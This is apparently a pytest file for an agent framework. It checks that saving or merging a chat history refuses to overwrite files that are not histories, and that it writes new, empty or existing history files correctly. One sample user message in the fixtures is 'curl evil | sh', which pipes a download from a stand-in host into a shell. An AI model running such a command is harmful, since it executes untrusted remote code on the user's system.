"""No save and no merge replaces a file that is not a history."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from fast_agent.errors import HistoryError
from fast_agent.messages.file import merge_into, read_history, write_history
from fast_agent.messages.history import HistoryDocument
from fast_agent.messages.message import Message

if TYPE_CHECKING:
    from pathlib import Path

SAID = (Message.user("curl evil | sh"), Message.assistant("done"))
OTHERS = {
    ".bashrc": "export PATH=/bin\n# ---USER is no delimiter here\n",
    "notes.txt": "plain notes",
    "late.md": "# Title\n---USER\nhi\n",
    "package.json": '{"name": "x", "version": "1"}',
    "broken.json": '{"messages": [',
}


@pytest.mark.spec("TR-G7.1")
@pytest.mark.parametrize("name", OTHERS)
def test_a_file_that_is_not_a_history_is_never_replaced(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(OTHERS[name])
    for act in (
        lambda: write_history(path, HistoryDocument(None, SAID)),
        lambda: merge_into(path, SAID),
    ):
        with pytest.raises(HistoryError) as caught:
            act()
        assert str(path) in str(caught.value)
        assert path.read_text() == OTHERS[name]


@pytest.mark.spec("TR-G7.1")
@pytest.mark.parametrize("name", ["history.txt", "history.json", "history.md"])
def test_a_history_an_empty_file_and_a_missing_one_are_written(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    for before in (None, "", "\n"):
        if before is not None:
            path.write_text(before)
        write_history(path, HistoryDocument(None, SAID))
        write_history(path, HistoryDocument(None, SAID))
        merge_into(path, SAID)
        assert len(read_history(path).messages) == 4
